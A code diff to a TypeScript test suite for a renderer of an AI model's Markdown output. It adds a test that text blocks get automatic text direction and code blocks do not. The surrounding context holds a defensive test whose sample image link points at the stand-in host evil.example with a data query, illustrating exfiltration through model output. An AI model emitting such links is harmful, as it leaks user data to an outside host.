@@ -7,6 +7,12 @@ const page = withRendering();
 const show = (text: string) => page.render(<MarkdownView text={text} />);
 
 describe('a model’s Markdown', () => {
+  it('has the direction of its own letters in each block, but not in code', () => {
+    show('# שלום\n\nמודל\n\n- one\n- שתיים\n\n> quoted\n\n```\ncode\n```\n\n| a |\n| - |\n| b |');
+    const blocks = [...page.place.querySelectorAll('[dir="auto"]')].map(({ tagName }) => tagName);
+    expect(blocks).toEqual(['H1', 'P', 'UL', 'BLOCKQUOTE', 'DIV']);
+  });
+
   it('loads no image, but shows its text and address', () => {
     show('![a chart](https://evil.example/p.png?data=1)');
     expect(page.place.querySelector('img')).toBeNull();
